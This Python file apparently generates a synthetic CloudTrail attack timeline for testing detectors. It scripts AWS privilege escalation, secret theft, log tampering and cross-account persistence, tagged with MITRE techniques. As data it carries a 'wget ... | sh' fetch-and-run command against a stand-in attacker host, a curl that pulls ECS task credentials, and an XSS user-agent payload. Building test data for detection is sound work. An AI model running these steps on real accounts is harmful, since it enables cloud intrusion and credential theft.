"""The one incident: a long-lived key used by a stranger in the night of 3 November 2026, act by act."""

from __future__ import annotations

from datetime import timedelta

from cloudtrail import Caller, Json, user_caller
from company import (
    APP_A,
    ATTACKER,
    BACKUP,
    CLUSTER,
    END,
    EXECUTION,
    FLOW_LOG_DATA,
    FOREIGN,
    GLOBAL,
    LEGACY,
    LEGACY_KEY,
    NEW_BACKUP_KEY,
    PAYMENT_SECRETS,
    PLATFORM_ADMIN,
    PROBE,
    PROD,
    PUBLIC_A,
    REGION,
    ROGUE_ADDRESS,
    SECRETS,
    TASK,
    TRAIL,
    Role,
)
from fleet import Fleet, Task, run_task_call
from pipeline import registered
from story import ADMIN_POLICY, Story, at, ingress, trust

OLD_BOTO = "Boto3/1.26.165 Python/3.10.12 Linux/6.1.0-kali9-amd64 Botocore/1.29.165"
KALI = "aws-cli/2.9.19 Python/3.11.2 Linux/6.1.0-kali9-amd64 source/x86_64.kali.2023 prompt/off"
HOSTILE = '<img src=x onerror="alert(document.domain)"> aws-cli/2.9.19'  # an attacker chooses the user agent freely
IN_PLAIN = "Winter2019-EXAMPLE-not-a-password"


def night(story: Story) -> Task:
    """The attack, 02:04 to 02:58. Returns the task that the attacker started."""
    thief = user_caller(LEGACY, LEGACY_KEY, ATTACKER, KALI)
    try_the_key(story, thief)
    take_secrets(story, thief)
    admin = gain_rights(story, thief)
    rogue = run_own_task(story, thief)
    enter_the_service(story, thief)
    open_the_database(story, admin)
    hide(story, admin)
    stay(story, admin)
    return rogue


def try_the_key(story: Story, thief: Caller) -> None:
    trail = story.trail
    story.tell("try the key", trail.call(at("02:04:11"), thief, "sts", "GetCallerIdentity", region=GLOBAL), "T1087.004")
    users, account = f"arn:aws:iam::{PROD}:user/", f"arn:aws:iam::{PROD}:*"
    refused = [
        ("iam", "ListUsers", users),
        ("iam", "GetAccountAuthorizationDetails", "*"),
        ("iam", "ListRoles", f"arn:aws:iam::{PROD}:role/"),
        ("iam", "GetAccountSummary", "*"),
        ("iam", "ListAttachedUserPolicies", f"user {LEGACY.name}"),
        ("iam", "GetCredentialReport", account),
        ("ec2", "DescribeInstances", "*"),
        ("ec2", "DescribeSnapshots", "*"),
        ("lambda", "ListFunctions", "*"),
        ("rds", "DescribeDBInstances", f"arn:aws:rds:{REGION}:{PROD}:db:*"),
        ("organizations", "DescribeOrganization", "*"),
        ("ssm", "DescribeParameters", f"arn:aws:ssm:{REGION}:{PROD}:*"),
        ("dynamodb", "ListTables", f"arn:aws:dynamodb:{REGION}:{PROD}:table/*"),
        ("cloudtrail", "DescribeTrails", "*"),
    ]
    for n, (service, name, target) in enumerate(refused):
        caller = thief.using(HOSTILE) if name == "GetAccountAuthorizationDetails" else thief
        record = trail.denied(at("02:05:02") + timedelta(seconds=7 * n), caller, service, name, target)
        story.tell("denied sweep", record, "T1580", "iam.denied_sweep")
    allowed: list[tuple[str, str, Json | None]] = [
        ("ecs", "ListClusters", None),
        ("ecs", "ListServices", {"cluster": "shop"}),
        ("ecs", "DescribeServices", {"cluster": "shop", "services": ["checkout"]}),
        ("ecs", "ListTasks", {"cluster": "shop"}),
        ("ecs", "DescribeTaskDefinition", {"taskDefinition": "checkout"}),
        ("ec2", "DescribeSecurityGroups", {"securityGroupSet": {}, "filterSet": {}}),
    ]
    for n, (service, name, request) in enumerate(allowed):
        record = trail.call(at("02:09:20") + timedelta(seconds=6 * n), thief, service, name, request)
        story.tell("look around", record, "T1526")


def take_secrets(story: Story, thief: Caller) -> None:
    """Twelve secrets in three minutes; the three of the payment system are refused."""
    trail = story.trail
    reader = thief.using(OLD_BOTO)
    for clock in ("02:11:03", "02:11:04"):
        listed = trail.call(at(clock), reader, "secretsmanager", "ListSecrets", {"maxResults": 100})
        story.tell("list secrets", listed, "T1555.006")
    known = [secret for secret in SECRETS.values() if secret not in PAYMENT_SECRETS]
    batch, rest = known[:5], known[5:]
    request = {"secretIdList": [secret.name for secret in batch]}
    moment = at("02:12:30")
    together = trail.call(moment, reader, "secretsmanager", "BatchGetSecretValue", request)
    story.tell("read secrets", together, "T1555.006")
    for secret in batch:  # a batch logs one GetSecretValue for each secret besides its own event
        read, _ = trail.read_secret(moment, reader, secret)
        story.tell("read secrets", read, "T1555.006", "secretsmanager.bulk_secret_reads")
    for n, secret in enumerate(rest):
        moment = at("02:13:10") + timedelta(seconds=9 * n)
        read, _ = trail.read_secret(moment, reader, secret, by=secret.name if n % 2 else None)
        story.tell("read secrets", read, "T1555.006", "secretsmanager.bulk_secret_reads")
    for n, secret in enumerate(PAYMENT_SECRETS):
        moment = at("02:14:31") + timedelta(seconds=6 * n)
        why = "with an explicit deny in an identity-based policy"
        record = trail.denied(moment, reader, "secretsmanager", "GetSecretValue", secret.arn, why)
        story.tell("refused secrets", record, "T1555.006", "secretsmanager.bulk_secret_reads", "iam.denied_sweep")


def gain_rights(story: Story, thief: Caller) -> Caller:
    """A key of another old user and full rights for it. Returns the attacker with that key."""
    trail = story.trail
    record = trail.denied(at("02:17:40"), thief, "iam", "CreateAccessKey", f"user {PROBE.name}")
    story.tell(
        "key for another user, refused", record, "T1098.001", "iam.credentials_for_another_user", "iam.denied_sweep"
    )
    key = {"userName": BACKUP.name, "accessKeyId": NEW_BACKUP_KEY, "status": "Active"}
    made = {"accessKey": {**key, "createDate": "Nov 3, 2026 2:18:05 AM"}}
    record = trail.call(at("02:18:05"), thief, "iam", "CreateAccessKey", {"userName": BACKUP.name}, made)
    story.tell("key for another user", record, "T1098.001", "iam.credentials_for_another_user")
    record = trail.denied(at("02:19:12"), thief, "iam", "AttachUserPolicy", f"user {PROBE.name}")
    story.tell("administrator, refused", record, "T1098.003", "iam.denied_sweep")  # which policy, no log tells
    request = {"userName": BACKUP.name, "policyArn": ADMIN_POLICY}
    record = trail.call(at("02:19:44"), thief, "iam", "AttachUserPolicy", request)
    story.tell("administrator", record, "T1098.003", "iam.admin_policy_attached")
    admin = user_caller(BACKUP, NEW_BACKUP_KEY, ATTACKER, KALI)
    record = trail.call(at("02:20:30"), admin, "sts", "GetCallerIdentity", region=GLOBAL)
    story.tell("use the new key", record, "T1078.004")
    return admin


def run_own_task(story: Story, thief: Caller) -> Task:
    """A task definition with an administrator's role and a password in plain text, run with a public address."""
    trail, fleet = story.trail, story.fleet
    app = {
        "name": "app",
        "image": "docker.io/library/alpine:3.19",
        "essential": True,
        "entryPoint": ["/bin/sh", "-c"],
        "command": [f"wget -qO- https://{ATTACKER}/sync.sh | sh"],
        "environment": [{"name": "PGPASSWORD", "value": IN_PLAIN}, {"name": "PGUSER", "value": "reporting"}],
    }
    request = {
        "family": "metrics-sync",
        "taskRoleArn": PLATFORM_ADMIN.arn,
        "executionRoleArn": EXECUTION.arn,
        "networkMode": "awsvpc",
        "requiresCompatibilities": ["FARGATE"],
        "cpu": "2048",
        "memory": "4096",
        "containerDefinitions": [app],
    }
    record = trail.call(at("02:22:16"), thief, "ecs", "RegisterTaskDefinition", request, registered(request, 1))
    story.tell("own task definition", record, "T1610", "ecs.plain_text_secret", "ecs.admin_task_role")
    rogue = fleet.place(at("02:23:02"), "metrics-sync:1", service=False, subnet=PUBLIC_A)
    rogue.role = PLATFORM_ADMIN
    record = trail.call(at("02:23:02"), thief, "ecs", "RunTask", *run_task_call(rogue, "metrics-sync", public=True))
    story.tell("own task", record, "T1610")
    fleet.start(rogue)
    agent = "aws-cli/1.32.0 Python/3.11 Linux/5.10 exec-env/AWS_ECS_FARGATE"
    inside = rogue.session(PLATFORM_ADMIN, END).caller(ROGUE_ADDRESS, agent)
    for n, secret in enumerate(PAYMENT_SECRETS):
        read, _ = trail.read_secret(at("02:27:10") + timedelta(seconds=4 * n), inside, secret)
        story.tell("payment secrets through the task's role", read, "T1555.006")
    return rogue


def enter_the_service(story: Story, thief: Caller) -> None:
    """A shell in a task of the shop, then that task's own credentials used from outside."""
    trail = story.trail
    task = entered_task(story.fleet)
    shell = 'sh -c "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI; exec sh"'
    request = {"cluster": "shop", "task": task.id, "container": "app", "command": shell, "interactive": True}
    hidden = "Value hidden due to security reasons."
    session = {"sessionId": f"ecs-execute-command-{trail.hex(16)}", "tokenValue": hidden}
    response = {"clusterArn": CLUSTER, "taskArn": task.arn, "containerName": "app", "session": session}
    record = trail.call(at("02:28:09"), thief, "ecs", "ExecuteCommand", request, response)
    story.tell("shell in the checkout task", record, "T1651", "ecs.execute_command", "ecs.credentials_endpoint_command")
    stolen = task.session(TASK, at("02:30:00")).caller(ATTACKER, OLD_BOTO)
    record = trail.call(at("02:30:41"), stolen, "sts", "GetCallerIdentity")
    story.tell("task credentials from outside", record, "T1552.005", "sts.workload_session_from_outside")
    settings = {"path": "/shop/", "recursive": True, "withDecryption": True}
    record = trail.call(at("02:30:58"), stolen, "ssm", "GetParametersByPath", settings)
    story.tell("task credentials from outside", record, "T1552.005", "sts.workload_session_from_outside")


def entered_task(fleet: Fleet) -> Task:
    """The task of the shop that the attacker got a shell in."""
    moment = at("02:28:09")
    running = [t for t in fleet.tasks if t.service and t.started <= moment < t.stopped]
    return next((t for t in running if t.interface.subnet == APP_A), running[0])


def open_the_database(story: Story, admin: Caller) -> None:
    record = story.trail.call(at("02:31:20"), admin, "ec2", "AuthorizeSecurityGroupIngress", *ingress())
    story.tell("database opened to the internet", record, "T1562.007", "network.security_group_open")


def hide(story: Story, admin: Caller) -> None:
    trail = story.trail
    for moment in ("02:36:12", "02:36:49"):
        by = "with an explicit deny in a service control policy"
        record = trail.denied(at(moment), admin, "cloudtrail", "StopLogging", TRAIL, by)
        story.tell("stop the trail, refused", record, "T1562.008", "logging.trail_switched_off")
    request = {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": FLOW_LOG_DATA}}}
    response = {"DeleteFlowLogsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "unsuccessful": ""}}
    record = trail.call(at("02:41:03"), admin, "ec2", "DeleteFlowLogs", request, response)
    story.tell("flow log deleted", record, "T1562.008", "logging.flow_logs_deleted")


def stay(story: Story, admin: Caller) -> None:
    """The administrator's role opened to a foreign account, and the first visit from there."""
    trail = story.trail
    both = trust(("Service", "ecs-tasks.amazonaws.com"), ("AWS", f"arn:aws:iam::{FOREIGN}:root"))
    request = {"roleName": PLATFORM_ADMIN.name, "policyDocument": both}
    record = trail.call(at("02:44:37"), admin, "iam", "UpdateAssumeRolePolicy", request)
    story.tell("role opened to a foreign account", record, "T1098.003", "iam.role_trusts_other_account")
    elsewhere = Role("operator", FOREIGN)
    identity = {"type": "AssumedRole", "principalId": f"{elsewhere.id}:ops", "accountId": FOREIGN}
    visitor = Caller(identity, FOREIGN, ATTACKER, OLD_BOTO)
    session = trail.assume(at("02:52:18"), visitor, PLATFORM_ADMIN, "ops")
    copy = trail.records[-2]  # the company's copy; the foreign account's own is not the company's to read
    story.tell("role assumed from a foreign account", copy, "T1199")
    inside = session.caller(ATTACKER, OLD_BOTO)
    record = trail.call(at("02:53:01"), inside, "sts", "GetCallerIdentity")
    story.tell("look around as administrator", record, "T1087.004")
    for moment, name in (("02:55:20", "ListUsers"), ("02:57:44", "GetAccountAuthorizationDetails")):
        record = trail.call(at(moment), inside, "iam", name, {"maxItems": 1000})
        story.tell("look around as administrator", record, "T1087.004")
